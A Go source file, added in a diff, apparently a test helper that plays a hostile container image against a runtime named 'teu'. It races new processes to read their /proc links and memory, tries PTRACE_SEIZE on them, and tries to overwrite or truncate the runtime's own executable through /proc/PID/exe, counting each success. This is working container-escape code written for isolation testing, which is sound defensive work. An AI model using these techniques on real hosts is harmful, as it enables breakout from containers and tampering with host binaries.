@@ -1,0 +1,181 @@
+// Attacker is what a hostile image brings along; the tests build it static.
+//
+//	watch SECONDS        looks into every process that appears, until it has run something of the container's own, and
+//	                     tries to trace it; prints what it got as JSON
+//	overwrite SECONDS    writes to the executable of every process that appears, however it can be reached
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"runtime"
+	"strconv"
+	"strings"
+	"syscall"
+	"time"
+)
+
+// Loot is what `watch` got of processes that were still teu's, and `overwrite` of their executables.
+type Loot struct {
+	Seen              int // processes looked at before they were the container's
+	Exe, Root, Cwd    int // links of /proc/PID that could be read
+	FD, Mem           int // links of /proc/PID/fd, and /proc/PID/mem opened
+	Traced            int // PTRACE_SEIZE of one that has capabilities the container has not
+	Opened            int // executables opened for writing, which a memfd may be
+	Errors, Overwrote map[string]int
+}
+
+func main() {
+	if len(os.Args) != 3 {
+		os.Exit(2)
+	}
+	seconds, err := strconv.Atoi(os.Args[2])
+	if err != nil {
+		os.Exit(2)
+	}
+	loot := Loot{Errors: map[string]int{}, Overwrote: map[string]int{}}
+	runtime.LockOSThread() // who traces is a thread
+	look := loot.watch
+	if os.Args[1] == "overwrite" {
+		look = loot.overwrite
+	}
+	fmt.Println("ready")
+	last := os.Getpid()
+	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
+		for pid := last + 1; pid < last+32; pid++ {
+			if look(pid) {
+				last = pid
+				syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
+			}
+		}
+	}
+	if err := json.NewEncoder(os.Stdout).Encode(loot); err != nil {
+		os.Exit(1)
+	}
+}
+
+// ours reports whether the process runs something of the container's, or is gone; teu's has the number of a descriptor for
+// a name.
+func ours(pid int) bool {
+	comm, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
+	name := strings.TrimSpace(string(comm))
+	return err != nil || name == "payload" || name == "attacker"
+}
+
+// watch looks into pid; true says that there is nothing more to see there.
+func (l *Loot) watch(pid int) bool {
+	if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
+		return false
+	}
+	if ours(pid) {
+		return true
+	}
+	l.Seen++
+	// Between a look and the name read after it the process may have become the container's: such a look does not count.
+	count := func(n *int, err error) {
+		if err == nil && !ours(pid) {
+			*n++
+		}
+	}
+	for link, n := range map[string]*int{"exe": &l.Exe, "root": &l.Root, "cwd": &l.Cwd} {
+		_, err := os.Readlink(fmt.Sprintf("/proc/%d/%s", pid, link))
+		count(n, err)
+	}
+	// Their numbers are to be had, by a root that may list any directory; not what they lead to.
+	for _, fd := range numbers(pid) {
+		_, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd))
+		count(&l.FD, err)
+	}
+	f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
+	if err == nil {
+		f.Close()
+	}
+	count(&l.Mem, err)
+	l.trace(pid)
+	return false
+}
+
+func numbers(pid int) []string {
+	dir, err := os.Open(fmt.Sprintf("/proc/%d/fd", pid))
+	if err != nil {
+		return nil
+	}
+	defer dir.Close()
+	names, _ := dir.Readdirnames(-1) // it may end meanwhile
+	return names
+}
+
+const (
+	ptraceSeize     = 0x4206     // PTRACE_SEIZE
+	ptraceInterrupt = 0x4207     // PTRACE_INTERRUPT
+	ptraceDetach    = 17         // PTRACE_DETACH
+	wall            = 0x40000000 // __WALL
+	sysAdmin        = 1 << 21    // CAP_SYS_ADMIN
+)
+
+func (l *Loot) trace(pid int) {
+	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceSeize, uintptr(pid), 0, 0, 0, 0); errno != 0 {
+		return
+	}
+	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err == nil {
+		_, caps, _ := strings.Cut(string(status), "CapPrm:\t")
+		n, err := strconv.ParseUint(caps[:min(len(caps), 16)], 16, 64)
+		if err == nil && n&sysAdmin != 0 {
+			l.Traced++
+		}
+	}
+	syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceInterrupt, uintptr(pid), 0, 0, 0, 0)
+	syscall.Wait4(pid, nil, wall, nil)
+	syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceDetach, uintptr(pid), 0, 0, 0, 0)
+}
+
+// overwrite tries to write to the executable of pid when it is none of the container's: directly, through a descriptor of
+// it, and, since ETXTBSY speaks of a running one, again when the process is gone.
+func (l *Loot) overwrite(pid int) bool {
+	exe := fmt.Sprintf("/proc/%d/exe", pid)
+	target, err := os.Readlink(exe)
+	if err != nil {
+		return false
+	}
+	if !strings.HasSuffix(target, "/teu") && !strings.Contains(target, "memfd:teu") {
+		return false
+	}
+	l.Seen++
+	held, err := os.Open(exe)
+	if err != nil {
+		l.Errors[err.Error()]++
+		return true
+	}
+	defer held.Close()
+	again := fmt.Sprintf("/proc/self/fd/%d", held.Fd())
+	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
+		for _, path := range []string{exe, again} {
+			f, err := os.OpenFile(path, os.O_WRONLY|syscall.O_NONBLOCK, 0)
+			if err != nil {
+				l.note(err)
+				continue
+			}
+			l.Opened++
+			if _, err := f.WriteString("#!/bin/false\n"); err == nil {
+				l.Overwrote[target]++
+			}
+			f.Close()
+		}
+		if _, err := os.Stat(exe); err != nil {
+			break
+		}
+	}
+	if err := os.Truncate(again, 0); err == nil {
+		l.Overwrote[target]++
+	}
+	return true
+}
+
+func (l *Loot) note(err error) {
+	if pe, ok := err.(*os.PathError); ok {
+		err = pe.Err
+	}
+	l.Errors[err.Error()]++
+}
